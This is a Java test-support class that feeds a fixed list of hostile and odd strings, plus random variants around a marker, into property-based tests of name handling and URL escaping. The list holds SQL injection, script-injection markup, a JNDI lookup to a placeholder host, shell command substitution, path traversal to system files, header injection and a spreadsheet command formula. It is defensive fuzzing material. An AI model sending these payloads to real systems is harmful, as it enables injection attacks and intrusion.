package dev.candor;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/** Texts as somebody might send them who means no good, or who only has an unusual name. */
public final class Hostile {
    /** Stands in every name and text made here, so that it can be looked for. No word of any definition holds it. */
    public static final String MARK = "qzkestrel";

    /** Texts that broke something somewhere: escapes, markup, queries, look-alikes, other directions of writing. */
    public static final List<String> TEXTS = List.of(
            "' or '1'='1",
            "\"; drop table event; --",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "${jndi:ldap://qzkestrel.example/a}",
            "{{7*7}}",
            "$(id)",
            "`id`",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "C:\\Users\\Ann",
            "/home/ann/project",
            "file:///etc/passwd",
            "http://ann:secret@10.1.2.3:8080/?token=1",
            "ann@example.org",
            "%00",
            "%2e%2e%2f",
            "\\x00",
            "\\u0000",
            "\r\nSet-Cookie: a=b",
            "=cmd|' /C calc'!A0",
            "NaN",
            "Infinity",
            "-Infinity",
            "null",
            "undefined",
            "true",
            "OTHER",
            "other",
            "(none)",
            "",
            " ",
            "\t",
            "\u00a0",
            "\u200b",
            "\u200d",
            "\ufeff",
            "\u202eaebpg.exe",
            "\u0007",
            "\u001b[31m",
            "Ω≈ç√∫",
            "ﷺ",
            "田中さん",
            "Zoë",
            "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A",
            "👩‍👩‍👧‍👦",
            "🏳️‍🌈",
            "١٢٣",
            "１.２.３",
            "ｌｉｎｕｘ",
            "lіnux",
            "linuх",
            "LINUX",
            "Linux\u0000",
            "linux ",
            " linux",
            "linux\n",
            "linux,windows",
            "[\"linux\"]",
            "{\"os\":\"linux\"}",
            "1e309",
            "0x7f",
            "9223372036854775808",
            "-0",
            "00000000-0000-0000-0000-000000000000",
            "__proto__",
            "constructor",
            "toString",
            "SELECT pg_sleep(9)",
            "%n%n%n%s",
            "a\\",
            "a\"b");

    private Hostile() {}

    /** A name, as somebody gives one to a table or a source: never empty, the mark in it or a known text. */
    public static Arbitrary<String> names() {
        Arbitrary<String> pieces = Arbitraries.oneOf(List.of(
                Arbitraries.of(TEXTS),
                Arbitraries.strings().all().ofMaxLength(6).map(Hostile::whole),
                Arbitraries.of(
                        "/", "//", ".", "..", "-", "_", "%", "%2F", "%25", "?", "#", "&", "=", ":", ";", "@", "+",
                        "$")));
        Arbitrary<String> around = pieces.list().ofMaxSize(3).map(parts -> String.join("", parts));
        return around.flatMap(before -> around.map(after -> before + MARK + after));
    }

    /** The ways in which a name gets into an address: as little is escaped as must be, hyphens too, or every byte. */
    public enum Escape {
        LITTLE,
        HYPHENS,
        EVERYTHING;

        /** The name so escaped. */
        public String of(String name) {
            String escaped = URLEncoder.encode(name, StandardCharsets.UTF_8).replace("+", "%20");
            return switch (this) {
                case LITTLE -> escaped;
                case HYPHENS -> escaped.replace("-", "%2D");
                case EVERYTHING -> everyByte(name);
            };
        }
    }

    private static String everyByte(String name) {
        StringBuilder all = new StringBuilder();
        for (byte b : name.getBytes(StandardCharsets.UTF_8)) {
            all.append(String.format("%%%02x", b & 0xFF));
        }
        return all.toString();
    }

    /** Half a surrogate pair is no text, and no decoder lets it in. */
    private static String whole(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
    }
}
